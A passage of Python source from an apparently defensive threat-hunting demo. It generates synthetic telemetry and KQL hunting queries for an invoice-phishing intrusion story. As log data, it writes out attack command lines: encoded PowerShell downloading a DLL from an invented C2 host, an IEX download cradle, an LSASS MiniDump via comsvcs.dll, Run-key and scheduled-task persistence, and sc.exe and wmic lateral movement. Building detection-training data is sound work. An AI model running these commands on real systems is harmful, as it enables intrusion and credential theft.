"""The attack stories embedded in the demo tenant, and the scenario file that describes them.

1. "Invoice phishing to data theft": a macro document mailed to a finance employee, a link
   click, Office starting encoded PowerShell, a DLL implant beaconing to a rare host, LSASS
   access, Kerberoasting and LDAP reconnaissance, lateral movement with a remote service and
   WMI, an inbox forwarding rule and a mass download in SharePoint, then exfiltration.
2. "Password spray to mailbox access": a spray against Entra ID sign-ins that succeeds for
   one account, an OAuth consent to a mail-reading app, and mailbox access from a new country.

Every row is built here once, with times anchored on the tenant's period and on the victims'
own working day (their device's on-window), and the same ids and names as the background.
The scenario (stages: name, time, tables, entities, an ordinary KQL query) goes beside the
data as scenario.json.
"""
from __future__ import annotations

import numpy as np

from hunt.store.demo import tenant as TN
from hunt.store.demo.columns import from_records
from hunt.store.demo.storykit import Kit, Proc, encoded, js
from hunt.store.demo.vocab import names as N

US = TN.US
MIN = 60 * US
HOUR = 60 * MIN


class Stories:
    def __init__(self, gen):
        self.gen = gen
        self.t = gen.t
        self.kit = Kit(gen)
        self.stages: list[dict] = []
        self.story_docs: list[dict] = []
        self._register_images()
        self._story_phishing()
        self._story_spray()
        from hunt.store.demo.story_ransom import story_ransomware
        story_ransomware(self)

    # -- public API ------------------------------------------------------------------------------
    def rows_for_day(self, day, dday) -> dict:
        tables = {}
        for table, recs in self.kit.records.items():
            sel = [r for r in recs if day.lo <= r["Timestamp"] < day.hi]
            if sel:
                info = self.gen.catalog.table(table)
                tables[table] = from_records(info, sel)
        return {"tables": tables}

    def scenario(self) -> dict:
        return {"stories": self.story_docs}

    def file_profile_rows(self, seen) -> list:
        out = []
        for r in self.kit.profile:
            if r["SHA1"] not in seen:
                seen.add(r["SHA1"])
                out.append(r)
        return out

    # -- helpers ---------------------------------------------------------------------------------
    def _register_images(self):
        im, t, r = self.gen.world.images, self.t, self.gen.r
        self.payload_dir = r"C:\ProgramData\Microsoft\EdgeUpdate"
        im.add(t, r, "x_svcexe", "WinUpdSvc.exe", r"C:\Windows\Temp", "", "", "", "", "", 348_672)

    def _day_of(self, ts: int):
        for d in self.gen.days:
            if d.lo <= ts < d.hi:
                return d
        return self.gen.days[-1]

    def _pick_day(self, before_end_days: float, weekday_only: bool):
        """The day the story happens: about `before_end_days` before the end, a working day when
        asked, fully inside the period when possible."""
        t = self.t
        target = t.end_us - int(before_end_days * TN.DAY_US)
        days = [d for d in self.gen.days if d.hi - d.lo >= 20 * HOUR] or self.gen.days
        best = None
        for d in sorted(days, key=lambda d: abs(d.start - target)):
            wd = int((d.start // TN.DAY_US + 3) % 7)
            if weekday_only and wd >= 5:
                continue
            best = d
            break
        return best or days[-1]

    def _stage(self, story: dict, name: str, title: str, ts: int, tables, entities: dict, query: str,
               technique: str = ""):
        st = {"name": name, "title": title, "time": TN.iso(ts), "tables": list(tables), "entities": entities,
              "query": query.strip()}
        if technique:
            st["mitre"] = technique
        story["stages"].append(st)

    # -- story 1 ---------------------------------------------------------------------------------------
    def _story_phishing(self):
        gen, t, k = self.gen, self.t, self.kit
        A, D = t.accounts, t.devices
        world = gen.world
        from hunt.store.demo.day import on_windows

        day = self._pick_day(3.0, True)
        on, off, working = on_windows(world, t.cfg.seed, day.index, day.start)
        # the victim: someone in Finance (else anyone) at a Windows workstation, at work that day
        cands = [p for p in t.people if p in t.device_of_user and D.cls[t.device_of_user[p]] == TN.WS]
        fin = [p for p in cands if A.dept[p] == "Finance" and working[t.device_of_user[p]]]
        pool = fin or [p for p in cands if working[t.device_of_user[p]]] or cands
        victim = pool[t.ids.integer(0, len(pool), "victim1")]
        vdev = t.device_of_user[victim]
        start = max(int(on[vdev]), day.lo) + 35 * MIN
        if not working[vdev] or start + 7 * HOUR > day.hi:
            start = max(day.lo, day.start + (9 - t.tz) * HOUR)
        ref = np.where(np.arange(world.ndev) == vdev, int(on[vdev]) if working[vdev] else start - HOUR,
                       day.start + 12 * HOUR)
        sess, idx = world.sessions_for_day(ref)
        outlook = k.from_background(sess, int(idx["outlook"][vdev]))

        fs = (t.role_devices.get("file") or t.servers)[0]
        sql = (t.role_devices.get("sql") or t.servers)[-1]
        dc = t.dcs[0]
        svc_acct = next((a for a in t.service_accounts if A.sam[a] == "svc_backup"), t.service_accounts[0])
        spn_accts = [a for a in t.service_accounts if A.sam[a] in ("svc_sql", "svc_backup", "svc_web", "svc_exchange", "svc_sccm")]
        v_ip = D.ip[vdev]
        site = t.sites[D.site[vdev]]
        v_pub = site.public_ips[0]
        ids = t.ids
        # attacker infrastructure (invented, seed-stable)
        phish_dom = ["northbrldge-supply.com", "northbridge-suppIy.com", "nothbridge-supply.com"][t.cfg.seed % 3]
        c2 = ["cdn-edge-telemetry.net", "updates-msedge-cdn.com", "static-msft-sync.net"][t.cfg.seed % 3]
        exfil = ["files-sync-storage.com", "secure-upload-drive.net", "docs-transfer-cloud.com"][t.cfg.seed % 3]
        c2_ip = ids.public_ip(["45.76.0.0/16", "139.59.0.0/16", "172.105.0.0/16"], "c2", t.cfg.seed)
        phish_ip = ids.public_ip(["185.243.112.0/22", "5.181.80.0/22"], "phiship", t.cfg.seed)
        exfil_ip = ids.public_ip(["104.168.0.0/16", "23.94.0.0/16"], "exfil", t.cfg.seed)
        t.domain_ips.setdefault(c2, [c2_ip])
        t.domain_ips.setdefault(phish_dom, [phish_ip])
        t.domain_ips.setdefault(exfil, [exfil_ip])
        inv = f"INV-{20000 + ids.integer(0, 9999, 'inv')}"
        doc_name = f"{inv}.docm"
        sender = f"accounts@{phish_dom}"
        msg_id = ids.guid("s1msg")
        imid = f"<{ids.hex(24, 's1imid')}@{phish_dom}>"
        phish_url = f"https://{phish_dom}/invoices/{inv.lower()}/view?ref={ids.hex(10, 's1ref')}"
        dll = "edgeupd.dll"
        dll_path = self.payload_dir + "\\" + dll
        archive = r"C:\Users\Public\Documents\q{}.7z".format(ids.integer(1, 4, "qtr"))
        svc_name = "WinUpdSvc"
        story = {"id": "phishing-to-exfiltration", "title": "Invoice phishing to data theft",
                 "summary": (f"{A.display[victim]} ({A.upn[victim]}) receives a macro invoice from a look-alike of a partner "
                             f"domain ({phish_dom}), clicks its link and opens it on {D.name[vdev]}; Word starts encoded "
                             f"PowerShell that installs a DLL implant beaconing to {c2}; the implant reads LSASS, "
                             f"Kerberoasts service accounts, moves to {D.short[fs]} and {D.short[sql]}, sets an inbox "
                             f"forwarding rule, mass-downloads SharePoint files and uploads an archive to {exfil}."),
                 "victim": {"account": A.sam[victim], "upn": A.upn[victim], "object_id": A.oid[victim],
                            "sid": A.sid[victim], "device": D.name[vdev], "device_id": D.id[vdev], "ip": v_ip},
                 "indicators": {"sender": sender, "phish_domain": phish_dom, "c2_domain": c2, "c2_ip": c2_ip,
                                "exfil_domain": exfil, "exfil_ip": exfil_ip, "attachment": doc_name, "implant": dll_path},
                 "stages": []}

        def netrow(p: Proc, ts, rip, rport, url="", action="ConnectionSuccess", lport=None, rtype="Public"):
            k.add("DeviceNetworkEvents", ts, {**k.by(p), "ActionType": action, "RemoteIP": rip, "RemotePort": rport,
                                               "RemoteUrl": url, "LocalIP": D.ip[p.dev],
                                               "LocalPort": lport or 49152 + (ts // US) % 16000, "Protocol": "Tcp",
                                               "LocalIPType": "Private", "RemoteIPType": rtype,
                                               "ReportId": 9_000_000_000 + (ts // 1000) % 1_000_000_000})

        def filerow(p: Proc, ts, action, folder, name, extra=None, named=True):
            f = k.file(name if named else folder)
            row = {**k.by(p), "ActionType": action, "FileName": name, "FolderPath": folder + "\\" + name,
                   "SHA1": f["sha1"], "SHA256": f["sha256"], "MD5": f["md5"], "FileSize": int(f["size"]),
                   "RequestProtocol": "Local", "ReportId": 9_100_000_000 + (ts // 1000) % 1_000_000_000}
            row.update(extra or {})
            k.add("DeviceFileEvents", ts, row)
            return f

        def devevent(p: Optional[Proc], ts, action, extra=None, dev=None):
            row = {**(k.by(p) if p else k.dev(dev)), "ActionType": action,
                   "ReportId": 9_200_000_000 + (ts // 1000) % 1_000_000_000}
            row.update(extra or {})
            k.add("DeviceEvents", ts, row)

        # 1. the mail
        t_mail = start - 18 * MIN
        attach = k.file(doc_name)
        common_mail = {"NetworkMessageId": msg_id, "SenderFromAddress": sender, "SenderDisplayName": "Northbridge Supply Accounts",
                       "RecipientEmailAddress": A.upn[victim], "RecipientObjectId": A.oid[victim]}
        k.add("EmailEvents", t_mail, {**common_mail, "InternetMessageId": imid, "SenderMailFromAddress": sender,
                                      "SenderMailFromDomain": phish_dom, "SenderFromDomain": phish_dom, "SenderIPv4": phish_ip,
                                      "Subject": f"Invoice {inv} - payment overdue", "EmailClusterId": 4_100_000_000_000 + ids.integer(0, 10**9, "cl"),
                                      "EmailDirection": "Inbound", "DeliveryAction": "Delivered", "DeliveryLocation": "Inbox/folder",
                                      "ThreatTypes": "", "ThreatNames": "", "DetectionMethods": "", "ConfidenceLevel": '{"Phish":null,"Spam":"Normal"}',
                                      "BulkComplaintLevel": 0, "EmailAction": "No action", "AuthenticationDetails": '{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"softpass"}',
                                      "AttachmentCount": 1, "UrlCount": 1, "EmailLanguage": "en", "ReportId": ids.guid("s1rep"),
                                      "LatestDeliveryLocation": "Inbox/folder", "LatestDeliveryAction": "Delivered", "RecipientDomain": t.mail_domain,
                                      "EmailSize": 184_331, "IsFirstContact": 1, "To": A.upn[victim], "AdditionalFields": "{}"})
        k.add("EmailAttachmentInfo", t_mail, {**common_mail, "SenderObjectId": "", "FileName": doc_name, "FileType": "docm",
                                              "SHA256": attach["sha256"], "FileSize": int(attach["size"]), "ThreatTypes": "",
                                              "ThreatNames": "", "DetectionMethods": "", "ReportId": ids.guid("s1att")})
        k.add("EmailUrlInfo", t_mail, {"NetworkMessageId": msg_id, "Url": phish_url, "UrlDomain": phish_dom, "UrlLocation": "Body",
                                       "UrlChainId": ids.hex(16, "s1chain"), "UrlChainPosition": 0, "ReportId": ids.guid("s1url")})
        k.add_profile(doc_name, 3, "TrojanDownloader:O97M/Donoff.SS!MTB", executable=False, first_seen=t_mail - 2 * HOUR)
        self._stage(story, "phishing-mail", "Macro invoice from a look-alike domain delivered", t_mail,
                    ["EmailEvents", "EmailAttachmentInfo", "EmailUrlInfo"],
                    {"sender": sender, "recipient": A.upn[victim], "network_message_id": msg_id, "attachment": doc_name,
                     "sha256": attach["sha256"], "url": phish_url},
                    f"""EmailEvents
| where SenderFromDomain =~ "{phish_dom}" and DeliveryAction == "Delivered"
| join kind=inner (EmailAttachmentInfo | where FileType == "docm") on NetworkMessageId
| project Timestamp, SenderFromAddress, RecipientEmailAddress, Subject, FileName, SHA256""", "T1566.001")

        # 2. the link click
        t_click = start
        k.add("UrlClickEvents", t_click, {"Url": phish_url, "ActionType": "ClickAllowed", "AccountUpn": A.upn[victim], "Workload": "Email",
                                          "NetworkMessageId": msg_id, "ThreatTypes": "", "DetectionMethods": "", "IPAddress": v_pub,
                                          "IsClickedThrough": False, "UrlChain": js([phish_url]), "ReportId": ids.guid("s1click"),
                                          "AppName": "Outlook", "AppVersion": "16.0.17328.20162", "TenantId": t.tenant_id,
                                          "Type": "UrlClickEvents", "SourceSystem": "Azure", "TimeGenerated": t_click})
        devevent(outlook, t_click + 2 * US, "BrowserLaunchedToOpenUrl", {"RemoteUrl": phish_url})
        browser = k.spawn(outlook, "msedge", f'"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument {phish_url}',
                          t_click + 3 * US)
        netrow(browser, t_click + 4 * US, phish_ip, 443, phish_dom)
        self._stage(story, "link-click", "The invoice link is clicked through Safe Links", t_click,
                    ["UrlClickEvents", "DeviceEvents", "DeviceNetworkEvents"],
                    {"account": A.upn[victim], "url": phish_url, "device": D.name[vdev]},
                    f"""UrlClickEvents
| where Url has "{phish_dom}" and ActionType == "ClickAllowed"
| project Timestamp, AccountUpn, Url, NetworkMessageId, IPAddress""", "T1204.001")

        # 3. the macro: Word from Outlook, then encoded PowerShell
        t_open = start + 3 * MIN
        cache = f"C:\\Users\\{A.sam[victim]}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{ids.hex(8, 'olk').upper()}"
        filerow(outlook, t_open, "FileCreated", cache, doc_name)
        word = k.spawn(outlook, "winword", f'"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "{cache}\\{doc_name}" /o ""',
                       t_open + 2 * US)
        k.add("DeviceImageLoadEvents", t_open + 5 * US, {**k.by(word), "ActionType": "ImageLoaded", "FileName": "VBE7.DLL",
                                                         "FolderPath": r"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL",
                                                         **_hashes(k, r"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL"),
                                                         "ReportId": 9_300_000_001})
        script1 = f"$u='https://{c2}/cdn/ms/{ids.hex(6, 'p1')}';$d='{dll_path}';New-Item -ItemType Directory -Force -Path '{self.payload_dir}' | Out-Null;(New-Object Net.WebClient).DownloadFile($u,$d);Start-Process rundll32.exe -ArgumentList \"$d,DllRegisterServer\""
        ps = k.spawn(word, "powershell", f"powershell.exe -nop -w hidden -enc {encoded(script1)}", t_open + 40 * US)
        devevent(word, t_open + 40 * US, "AsrOfficeChildProcessAudited",
                 {"FileName": "powershell.exe", "FolderPath": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                  "AdditionalFields": js({"IsAudit": True, "RuleId": "d4f940ab-401b-4efc-aadc-ad5f3c50688a"})})
        for j, cmd in enumerate(["New-Item", "New-Object", "DownloadFile", "Start-Process"]):
            devevent(ps, t_open + 42 * US + j * US, "PowerShellCommand", {"AdditionalFields": js({"Command": cmd})})
        for j, (dn, df) in enumerate([("System.Management.Automation.ni.dll", r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\7d0e3f6cbe2e1c6f2a3bd5e1a0e8c0c4"),
                                      ("amsi.dll", r"C:\Windows\System32")]):
            k.add("DeviceImageLoadEvents", t_open + 41 * US + j * 1000, {**k.by(ps), "ActionType": "ImageLoaded", "FileName": dn,
                                                                         "FolderPath": df + "\\" + dn, **_hashes(k, df + "\\" + dn),
                                                                         "ReportId": 9_300_000_010 + j})
        self._stage(story, "office-powershell", "Word starts hidden, encoded PowerShell", t_open + 40 * US,
                    ["DeviceFileEvents", "DeviceProcessEvents", "DeviceEvents"],
                    {"device": D.name[vdev], "account": A.sam[victim], "parent": "WINWORD.EXE", "process": "powershell.exe",
                     "process_id": ps.pid},
                    """DeviceProcessEvents
| where InitiatingProcessFileName in~ ("winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe")
| where FileName in~ ("powershell.exe", "pwsh.exe", "cmd.exe", "mshta.exe", "wscript.exe")
| where ProcessCommandLine has_any ("-enc", "-EncodedCommand", "-e ")
| project Timestamp, DeviceName, AccountName, InitiatingProcessFileName, ProcessCommandLine""", "T1059.001")

        # 4. download of the implant and beacons
        t_dl = t_open + 45 * US
        netrow(ps, t_dl, c2_ip, 443, c2)
        implant = filerow(ps, t_dl + 3 * US, "FileCreated", self.payload_dir, dll,
                          {"FileOriginUrl": f"https://{c2}/cdn/ms/{ids.hex(6, 'p1')}", "FileOriginIP": c2_ip})
        k.add_profile(dll, 1, "", executable=True, first_seen=t_dl)
        rdl = k.spawn(ps, "rundll32", f'"C:\\Windows\\system32\\rundll32.exe" {dll_path},DllRegisterServer', t_dl + 8 * US)
        k.add("DeviceImageLoadEvents", t_dl + 9 * US, {**k.by(rdl), "ActionType": "ImageLoaded", "FileName": dll,
                                                       "FolderPath": dll_path, "SHA1": implant["sha1"], "SHA256": implant["sha256"],
                                                       "MD5": implant["md5"], "FileSize": int(implant["size"]), "ReportId": 9_300_000_020})
        beacon_end = min(day.hi - MIN, t_dl + 7 * HOUR)
        bt = t_dl + 30 * US
        rng = np.random.default_rng([t.cfg.seed, 777])
        while bt < beacon_end:
            netrow(rdl, bt, c2_ip, 443, c2)
            bt += int((55 + rng.random() * 12) * US)
        self._stage(story, "c2-beacon", "The DLL implant beacons to a rare external host", t_dl + 30 * US,
                    ["DeviceNetworkEvents", "DeviceFileEvents", "DeviceImageLoadEvents"],
                    {"device": D.name[vdev], "domain": c2, "ip": c2_ip, "process": "rundll32.exe", "file": dll_path,
                     "sha256": implant["sha256"]},
                    f"""DeviceNetworkEvents
| where RemoteUrl =~ "{c2}" or RemoteIP == "{c2_ip}"
| summarize Connections = count(), First = min(Timestamp), Last = max(Timestamp) by DeviceName, InitiatingProcessFileName, RemoteUrl""",
                    "T1071.001")

        # 5. persistence: Run key and scheduled task
        t_p = t_dl + 4 * MIN
        cmd = k.spawn(rdl, "cmd", f'"cmd.exe" /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v EdgeUpdateCore /t REG_SZ /d "rundll32.exe {dll_path},DllRegisterServer" /f', t_p)
        reg = k.spawn(cmd, "reg", f'reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v EdgeUpdateCore /t REG_SZ /d "rundll32.exe {dll_path},DllRegisterServer" /f', t_p + 50_000)
        run_key = f"HKEY_CURRENT_USER\\{A.sid[victim]}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        k.add("DeviceRegistryEvents", t_p + 80_000, {**k.by(reg), "ActionType": "RegistryValueSet", "RegistryKey": run_key,
                                                     "RegistryValueName": "EdgeUpdateCore", "RegistryValueType": "String",
                                                     "RegistryValueData": f"rundll32.exe {dll_path},DllRegisterServer", "ReportId": 9_400_000_001})
        sch = k.spawn(rdl, "schtasks", f'schtasks.exe /create /tn "MicrosoftEdgeUpdateTaskCore" /tr "rundll32.exe {dll_path},DllRegisterServer" /sc onlogon /rl highest /f', t_p + 20 * US)
        devevent(sch, t_p + 21 * US, "ScheduledTaskCreated", {"AdditionalFields": js({"TaskName": "\\MicrosoftEdgeUpdateTaskCore",
                                                                                      "TaskContent": f"<Task><Actions><Exec><Command>rundll32.exe</Command><Arguments>{dll_path},DllRegisterServer</Arguments></Exec></Actions><Triggers><LogonTrigger/></Triggers></Task>"})})
        self._stage(story, "persistence", "Run key and logon task start the implant", t_p,
                    ["DeviceRegistryEvents", "DeviceProcessEvents", "DeviceEvents"],
                    {"device": D.name[vdev], "registry_key": run_key, "value": "EdgeUpdateCore", "task": "\\MicrosoftEdgeUpdateTaskCore"},
                    """DeviceRegistryEvents
| where ActionType == "RegistryValueSet" and RegistryKey has @"CurrentVersion\\Run"
| where RegistryValueData has "rundll32" and RegistryValueData has @"\\ProgramData\\"
| project Timestamp, DeviceName, RegistryKey, RegistryValueName, RegistryValueData, InitiatingProcessCommandLine""", "T1547.001")

        # 6. discovery from the implant
        t_d = t_dl + 25 * MIN
        recon = [("whoami", "whoami  /all", None), ("net", 'net  group "Domain Admins" /domain', "net1"),
                 ("net", "net  user /domain", "net1"), ("nltest", f"nltest  /dclist:{t.domain}", None),
                 ("ipconfig", "ipconfig  /all", None), ("net", f"net  view \\\\{D.short[fs]}", None),
                 ("systeminfo", "systeminfo  ", None)]
        sh = k.spawn(rdl, "cmd", '"cmd.exe" /Q', t_d)
        for j, (img, cmdline, sub) in enumerate(recon):
            p = k.spawn(sh, img, cmdline, t_d + (j + 1) * 17 * US)
            if sub:
                k.spawn(p, sub, "C:\\Windows\\system32\\net1 " + cmdline.split("  ", 1)[1], t_d + (j + 1) * 17 * US + 40_000)
        self._stage(story, "discovery", "Reconnaissance commands run from the implant", t_d,
                    ["DeviceProcessEvents"], {"device": D.name[vdev], "parent": "rundll32.exe"},
                    """DeviceProcessEvents
| where InitiatingProcessFileName =~ "cmd.exe" and InitiatingProcessParentFileName =~ "rundll32.exe"
| where FileName in~ ("whoami.exe", "net.exe", "nltest.exe", "ipconfig.exe", "systeminfo.exe")
| summarize Commands = make_set(ProcessCommandLine) by DeviceName, bin(Timestamp, 10m)""", "T1087.002")

        # 7. LSASS
        t_l = t_dl + 40 * MIN
        lsass = k.from_background(sess, int(idx["lsass"][vdev]))
        devevent(rdl, t_l, "OpenProcessApiCall", {"FileName": "lsass.exe", "FolderPath": r"C:\Windows\System32\lsass.exe",
                                                  "ProcessId": lsass.pid, "ProcessCreationTime": lsass.ctime,
                                                  "AdditionalFields": js({"DesiredAccess": 2097151, "TargetProcessId": lsass.pid})})
        dump = k.spawn(rdl, "rundll32", f'"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {self.payload_dir}\\d.bin full',
                       t_l + 5 * US, integ="High")
        filerow(dump, t_l + 9 * US, "FileCreated", self.payload_dir, "d.bin", named=False)
        self._stage(story, "lsass-access", "The implant reads LSASS memory", t_l,
                    ["DeviceEvents", "DeviceProcessEvents", "DeviceFileEvents"],
                    {"device": D.name[vdev], "process": "rundll32.exe", "target": "lsass.exe", "lsass_pid": lsass.pid},
                    """DeviceEvents
| where ActionType == "OpenProcessApiCall" and FileName =~ "lsass.exe"
| where InitiatingProcessFileName !in~ ("MsSense.exe", "MsMpEng.exe", "svchost.exe", "csrss.exe", "wininit.exe")
| project Timestamp, DeviceName, InitiatingProcessFileName, InitiatingProcessCommandLine, AdditionalFields""", "T1003.001")

        # 8. Kerberoasting and LDAP reconnaissance, seen by the domain controller
        t_k = t_dl + 70 * MIN
        base = "DC=" + ",DC=".join(t.ad_domain.split("."))
        ldap = [("AllServicePrincipalNames", f"Search Scope: WholeSubtree, Base Object:{base}, Search Filter: (&(objectCategory=person)(objectClass=user)(servicePrincipalName=*))"),
                ("AllUsers", f"Search Scope: WholeSubtree, Base Object:{base}, Search Filter: (&(objectCategory=person)(objectClass=user)(adminCount=1))"),
                ("QueryGroup", f"Search Scope: WholeSubtree, Base Object:{base}, Search Filter: (&(objectCategory=group)(cn=Domain Admins))"),
                ("AllComputers", f"Search Scope: WholeSubtree, Base Object:{base}, Search Filter: (&(objectCategory=computer)(operatingSystem=*server*))"),
                ("AllTrustedDomains", f"Search Scope: WholeSubtree, Base Object:CN=System,{base}, Search Filter: (objectClass=trustedDomain)")]
        for j, (qt, q) in enumerate(ldap):
            k.add("IdentityQueryEvents", t_k + j * 3 * US, {"ActionType": "LDAP query", "Application": "Active Directory", "QueryType": qt,
                                                            "QueryTarget": t.ad_domain, "Query": q, "Protocol": "Ldap",
                                                            **{kk: vv for kk, vv in k.acc(victim).items()}, "AccountDisplayName": A.display[victim],
                                                            "DeviceName": D.name[vdev], "IPAddress": v_ip, "Port": 50311 + j,
                                                            "DestinationDeviceName": D.name[dc], "DestinationIPAddress": D.ip[dc],
                                                            "DestinationPort": 389, "ReportId": ids.guid("s1ldap", j),
                                                            "AdditionalFields": js({"AttributeList": ["servicePrincipalName", "sAMAccountName"] if j == 0 else ["sAMAccountName"]})})
            netrow(rdl, t_k + j * 3 * US, D.ip[dc], 389, "", rtype="Private")
        for j, a in enumerate(spn_accts or t.service_accounts[:3]):
            spn = {"svc_sql": f"MSSQLSvc/{D.short[sql]}.{t.ad_domain}:1433", "svc_backup": f"backup/{D.short[fs]}.{t.ad_domain}",
                   "svc_web": f"HTTP/intranet.{t.ad_domain}", "svc_exchange": f"exchangeAB/{t.ad_domain}",
                   "svc_sccm": f"SMS/{D.short[fs]}.{t.ad_domain}"}.get(A.sam[a], f"host/{A.sam[a]}")
            k.add("IdentityLogonEvents", t_k + 20 * US + j * 2 * US,
                  {"ActionType": "LogonSuccess", "Application": "Active Directory", "LogonType": "Resource access", "Protocol": "Kerberos",
                   **k.acc(victim), "AccountDisplayName": A.display[victim], "DeviceName": D.name[vdev], "DeviceType": "Workstation",
                   "OSPlatform": "Windows 11", "IPAddress": v_ip, "Port": 50400 + j, "DestinationDeviceName": D.name[dc],
                   "DestinationIPAddress": D.ip[dc], "DestinationPort": 88, "TargetAccountDisplayName": A.sam[a],
                   "ReportId": ids.guid("s1tgs", j),
                   "AdditionalFields": js({"Spns": spn, "EncryptionType": "Rc4Hmac", "TARGET_OBJECT.USER": A.sam[a], "TicketType": "TGS"})})
            netrow(rdl, t_k + 20 * US + j * 2 * US, D.ip[dc], 88, "", rtype="Private")
        self._stage(story, "kerberoasting", "LDAP reconnaissance and Kerberoasting of service accounts", t_k,
                    ["IdentityQueryEvents", "IdentityLogonEvents", "DeviceNetworkEvents"],
                    {"device": D.name[vdev], "account": A.sam[victim], "domain_controller": D.name[dc],
                     "service_accounts": [A.sam[a] for a in spn_accts]},
                    """IdentityQueryEvents
| where ActionType == "LDAP query"
| where Query has "servicePrincipalName=*" or Query has "adminCount=1"
| summarize Queries = count(), Filters = make_set(Query) by DeviceName, AccountName, bin(Timestamp, 5m)""", "T1558.003")

        # 9. lateral movement: remote service on the file server, WMI on the SQL server
        t_m = t_dl + 2 * HOUR
        sc = k.spawn(sh, "sc", f'sc.exe \\\\{D.short[fs]} create {svc_name} binPath= "cmd.exe /c C:\\Windows\\Temp\\{svc_name}.exe" start= demand', t_m,
                     acct=svc_acct)
        netrow(sc, t_m + 1000, D.ip[fs], 445, "", rtype="Private")
        netrow(sc, t_m + 2000, D.ip[fs], 135, "", rtype="Private")
        sess_fs = k.from_background(sess, int(idx["services"][fs]))
        lsass_fs = k.from_background(sess, int(idx["lsass"][fs]))
        sys_fs = k.from_background(sess, int(idx["system"][fs]))
        k.add("DeviceLogonEvents", t_m - 2 * US, {**k.by(lsass_fs), "ActionType": "LogonSuccess", "LogonType": "Network",
                                                  **{kk: vv for kk, vv in k.acc(svc_acct).items() if kk in ("AccountName", "AccountDomain", "AccountSid")},
                                                  "Protocol": "NTLM", "IsLocalAdmin": True, "LogonId": 7_700_001,
                                                  "RemoteDeviceName": D.name[vdev], "RemoteIP": v_ip, "RemoteIPType": "Private",
                                                  "RemotePort": 51123, "ReportId": 9_500_000_001, "AdditionalFields": js({"IsLocalLogon": False})})
        svc_file = k.file(svc_name + ".exe")
        k.add("DeviceFileEvents", t_m - US, {**k.by(sys_fs), "ActionType": "FileCreated", "FileName": svc_name + ".exe",
                                             "FolderPath": f"C:\\Windows\\Temp\\{svc_name}.exe", "SHA1": svc_file["sha1"],
                                             "SHA256": svc_file["sha256"], "MD5": svc_file["md5"], "FileSize": int(svc_file["size"]),
                                             "RequestProtocol": "SMB", "RequestSourceIP": v_ip, "RequestSourcePort": 51124,
                                             "RequestAccountName": A.sam[svc_acct], "RequestAccountDomain": t.domain,
                                             "RequestAccountSid": A.sid[svc_acct], "ShareName": "ADMIN$", "ReportId": 9_500_000_002})
        k.add_profile(svc_name + ".exe", 1, "", executable=True, first_seen=t_m)
        devevent(sess_fs, t_m + 3 * US, "ServiceInstalled", {"AccountName": A.sam[svc_acct], "AccountDomain": t.domain,
                                                             "AccountSid": A.sid[svc_acct],
                                                             "AdditionalFields": js({"ServiceName": svc_name, "ServiceAccount": "LocalSystem",
                                                                                     "ServiceStartType": 3, "ServiceType": 16,
                                                                                     "ImagePath": f"cmd.exe /c C:\\Windows\\Temp\\{svc_name}.exe"})})
        c_fs = k.spawn(sess_fs, "cmd", f"cmd.exe /c C:\\Windows\\Temp\\{svc_name}.exe", t_m + 5 * US, acct=t.acc_system, integ="System")
        payload_fs = k.spawn(c_fs, "x_svcexe", f"C:\\Windows\\Temp\\{svc_name}.exe", t_m + 6 * US)
        netrow(payload_fs, t_m + 9 * US, c2_ip, 443, c2)
        k.add("IdentityLogonEvents", t_m - 2 * US, {"ActionType": "LogonSuccess", "Application": "Active Directory", "LogonType": "Resource access",
                                                    "Protocol": "Ntlm", **k.acc(svc_acct), "AccountDisplayName": A.display[svc_acct],
                                                    "DeviceName": D.name[vdev], "IPAddress": v_ip, "Port": 51123,
                                                    "DestinationDeviceName": D.name[dc], "DestinationIPAddress": D.ip[dc], "DestinationPort": 445,
                                                    "TargetDeviceName": D.name[fs], "ReportId": ids.guid("s1ntlm"),
                                                    "AdditionalFields": js({"TO.DEVICE": D.short[fs], "Pass-through": True})})
        t_w = t_m + 12 * MIN
        script2 = f"IEX (New-Object Net.WebClient).DownloadString('https://{c2}/cdn/ms/s2')"
        wm = k.spawn(sh, "wmic", f'wmic.exe /node:{D.short[sql]} /user:{t.domain}\\{A.sam[svc_acct]} process call create "powershell.exe -nop -w hidden -enc {encoded(script2)}"',
                     t_w, acct=svc_acct)
        netrow(wm, t_w + 1000, D.ip[sql], 135, "", rtype="Private")
        wmi_sql = k.from_background(sess, int(idx["wmiprvse"][sql]))
        lsass_sql = k.from_background(sess, int(idx["lsass"][sql]))
        k.add("DeviceLogonEvents", t_w, {**k.by(lsass_sql), "ActionType": "LogonSuccess", "LogonType": "Network",
                                         **{kk: vv for kk, vv in k.acc(svc_acct).items() if kk in ("AccountName", "AccountDomain", "AccountSid")},
                                         "Protocol": "Kerberos", "IsLocalAdmin": True, "LogonId": 7_700_002, "RemoteDeviceName": D.name[vdev],
                                         "RemoteIP": v_ip, "RemoteIPType": "Private", "RemotePort": 51200, "ReportId": 9_500_000_003})
        ps_sql = k.spawn(wmi_sql, "powershell", f"powershell.exe -nop -w hidden -enc {encoded(script2)}", t_w + 2 * US, acct=svc_acct, integ="High")
        netrow(ps_sql, t_w + 4 * US, c2_ip, 443, c2)
        self._stage(story, "lateral-movement", "Remote service creation and WMI with a Kerberoasted service account", t_m,
                    ["DeviceProcessEvents", "DeviceEvents", "DeviceLogonEvents", "DeviceFileEvents", "IdentityLogonEvents"],
                    {"source": D.name[vdev], "targets": [D.name[fs], D.name[sql]], "account": A.sam[svc_acct], "service": svc_name},
                    """DeviceEvents
| where ActionType == "ServiceInstalled"
| extend ServiceName = tostring(parse_json(AdditionalFields).ServiceName), ImagePath = tostring(parse_json(AdditionalFields).ImagePath)
| where ImagePath has @"\\Windows\\Temp\\"
| project Timestamp, DeviceName, ServiceName, ImagePath, AccountName
